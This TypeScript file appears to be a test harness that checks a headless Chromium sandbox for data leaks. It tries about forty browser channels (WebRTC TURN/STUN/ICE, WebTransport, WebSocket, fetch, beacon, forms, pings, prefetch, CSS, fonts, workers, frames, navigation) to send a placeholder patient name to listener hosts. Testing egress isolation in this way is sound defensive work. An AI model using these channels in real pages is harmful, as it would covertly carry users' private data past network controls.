/** Where an attempt to get out goes. */
export interface Target {
  readonly host: string
  readonly tcpPort: number
  readonly udpPort: number
}

/** The names of the attempts of {@link tryWaysOut}, each with a listener of its own. */
export const waysOut = [
  'turnUdp',
  'turnTcp',
  'turnTls',
  'stun',
  'iceUdp',
  'iceTcp',
  'turnOfFrame',
  'webTransport',
  'webSocket',
  'eventSource',
  'fetch',
  'beacon',
  'keepalive',
  'request',
  'image',
  'media',
  'font',
  'styleLink',
  'styleSheet',
  'script',
  'module',
  'worker',
  'sharedWorker',
  'frame',
  'fetchOfFrame',
  'refresh',
  'object',
  'embed',
  'poster',
  'imageInput',
  'svgImage',
  'importRule',
  'icon',
  'download',
  'form',
  'ping',
  'prefetch',
  'preload',
  'preconnect',
  'prerender',
  'speculation',
  'navigation',
  'pop-up'
] as const
/** Those that Chromium's own rules stop or postpone in a headless page; they are tried in case it does no longer. */
export const stoppedByChromium: readonly WayOut[] = [
  'icon',
  'worker',
  'sharedWorker',
  'preconnect',
  'prerender',
  'speculation'
]
export type WayOut = (typeof waysOut)[number]

/**
 * Tries to carry a patient's name out, in every way that a page of Chromium has. Runs in the page, so it uses nothing
 * from outside of itself. Resolves when every attempt that has an end has ended.
 */
export async function tryWaysOut(targets: Readonly<Record<WayOut, Target>>): Promise<void> {
  const secret = 'patient-Keller-Anna'
  const http = (way: WayOut) => `http://${targets[way].host}:${targets[way].tcpPort}/${secret}`
  const anyEnd = (start: () => unknown) =>
    new Promise<void>((resolve) => {
      try {
        Promise.resolve(start()).then(
          () => resolve(),
          () => resolve()
        )
      } catch {
        resolve()
      }
    })
  const loaded = (element: HTMLElement, parent: HTMLElement = document.body) =>
    new Promise<void>((resolve) => {
      element.onload = () => resolve()
      element.onerror = () => resolve()
      parent.append(element)
    })
  const make = <Name extends keyof HTMLElementTagNameMap>(name: Name, given: object) =>
    Object.assign(document.createElement(name), given)

  const gathered = async (urls: string, Connection = RTCPeerConnection) => {
    const connection = new Connection({ iceServers: [{ urls, username: secret, credential: secret }] })
    const complete = new Promise<void>((resolve) => {
      connection.addEventListener('icegatheringstatechange', () => {
        if (connection.iceGatheringState === 'complete') resolve()
      })
    })
    connection.createDataChannel('out')
    await connection.setLocalDescription(await connection.createOffer())
    await complete
    connection.close()
  }
  /** As a peer whose address the page names: Chromium asks there by itself whether it listens. */
  const peered = async (candidate: string) => {
    const [one, other] = [new RTCPeerConnection(), new RTCPeerConnection()]
    one.createDataChannel('out')
    await one.setLocalDescription()
    await other.setRemoteDescription(one.localDescription as RTCSessionDescription)
    await other.setLocalDescription()
    const sdp = (other.localDescription?.sdp ?? '').replace(/^a=candidate.*\r\n/gm, '')
    await one.setRemoteDescription({ type: 'answer', sdp: sdp.replace(/^a=ice-ufrag:.*$/m, `a=ice-ufrag:${secret}`) })
    await one.addIceCandidate({ candidate, sdpMid: '0' })
    await new Promise((resolve) => setTimeout(resolve, 2_000))
    one.close()
    other.close()
  }
  const closed = (channel: WebSocket | EventSource) =>
    new Promise<void>((resolve) => {
      channel.onerror = () => resolve()
      channel.onopen = () => resolve()
    })
  const failed = (worker: Worker | SharedWorker) =>
    new Promise<void>((resolve) => {
      worker.onerror = () => resolve()
    })
  const rtc = (way: WayOut, scheme: string, transport: 'udp' | 'tcp') => {
    const { host, tcpPort, udpPort } = targets[way]
    const port = transport === 'udp' ? udpPort : tcpPort
    return gathered(`${scheme}:${host}:${port}${scheme === 'stun' ? '' : `?transport=${transport}`}`)
  }
  const link = (way: WayOut, rel: string) => document.head.append(make('link', { rel, href: http(way), as: 'image' }))

  for (const [way, rel] of [
    ['prefetch', 'prefetch'],
    ['preload', 'preload'],
    ['preconnect', 'preconnect'],
    ['prerender', 'prerender']
  ] as const) {
    link(way, rel)
  }
  document.head.append(
    make('script', {
      type: 'speculationrules',
      textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [http('speculation')] }] })
    })
  )
  const sheet = new CSSStyleSheet()
  sheet.insertRule(`body { background-image: url("${http('styleSheet')}") }`)
  document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]
  const frame = make('iframe', { name: 'form-target' })
  // What runs in the other frame would end with the page that the form brings.
  const staying = make('iframe', {})
  document.body.append(frame, staying)
  const inner = staying.contentWindow as Window & typeof globalThis
  const refreshed = make('iframe', { srcdoc: `<meta http-equiv="refresh" content="0;url=${http('refresh')}">` })
  const svg = make('div', { innerHTML: `<svg><image href="${http('svgImage')}" width="9" height="9"/></svg>` })
  const style = make('style', { textContent: `@import url("${http('importRule')}");` })
  const saved = make('a', { href: http('download'), download: secret, target: 'saved-target' })
  document.body.append(refreshed, svg, style, make('iframe', { name: 'saved-target' }), saved)
  link('icon', 'icon')
  saved.click()
  const form = make('form', { action: http('form'), method: 'post', target: 'form-target' })
  const ping = make('a', { href: '#pinged', ping: http('ping') })
  document.body.append(form, ping)
  form.submit()
  ping.click()
  navigator.sendBeacon(http('beacon'), secret)

  const web = targets.webTransport
  const attempts = [
    () => rtc('turnUdp', 'turn', 'udp'),
    () => rtc('turnTcp', 'turn', 'tcp'),
    () => rtc('turnTls', 'turns', 'tcp'),
    () => rtc('stun', 'stun', 'udp'),
    () => peered(`candidate:1 1 udp 2122260223 ${targets.iceUdp.host} ${targets.iceUdp.udpPort} typ host`),
    () =>
      peered(`candidate:1 1 tcp 1518280447 ${targets.iceTcp.host} ${targets.iceTcp.tcpPort} typ host tcptype passive`),
    () => gathered(`turn:${targets.turnOfFrame.host}:${targets.turnOfFrame.udpPort}`, inner.RTCPeerConnection),
    () => inner.fetch(http('fetchOfFrame'), { mode: 'no-cors' }),
    () => new WebTransport(`https://${web.host}:${web.udpPort}/${secret}`).ready,
    () => closed(new WebSocket(http('webSocket').replace('http', 'ws'))),
    () => closed(new EventSource(http('eventSource'))),
    () => fetch(http('fetch'), { mode: 'no-cors' }),
    () => fetch(http('keepalive'), { mode: 'no-cors', keepalive: true }),
    () => {
      const request = new XMLHttpRequest()
      request.open('POST', http('request'))
      return new Promise((resolve) => {
        request.onloadend = resolve
        request.send(secret)
      })
    },
    () => new FontFace('out', `url(${http('font')})`).load(),
    () => failed(new Worker(http('worker'))),
    () => failed(new SharedWorker(http('sharedWorker'))),
    () => loaded(make('img', { src: http('image') })),
    () => loaded(make('script', { src: http('script') })),
    () => loaded(make('script', { type: 'module', src: http('module') })),
    () => loaded(make('iframe', { src: http('frame') })),
    () => loaded(make('object', { data: http('object') })),
    () => loaded(make('embed', { src: http('embed') })),
    () => loaded(make('input', { type: 'image', src: http('imageInput') })),
    () => void document.body.append(make('video', { poster: http('poster') })),
    () => loaded(make('video', { src: http('media') })),
    () => loaded(make('link', { rel: 'stylesheet', href: http('styleLink') }), document.head)
  ]
  // What is sent without an answer ends by Chromium's own limits, some of them long.
  const longEnough = new Promise<void>((resolve) => setTimeout(resolve, 5_000))
  await Promise.race([longEnough, Promise.all(attempts.map(anyEnd))])
  window.open(http('pop-up'))
  location.href = http('navigation')
}

/** Asks for a worker that outlives the page and answers its requests. Runs in the page. */
export async function registerServiceWorker(script: string): Promise<string> {
  try {
    await navigator.serviceWorker.register(script)
    return 'registered'
  } catch {
    return 'refused'
  }
}
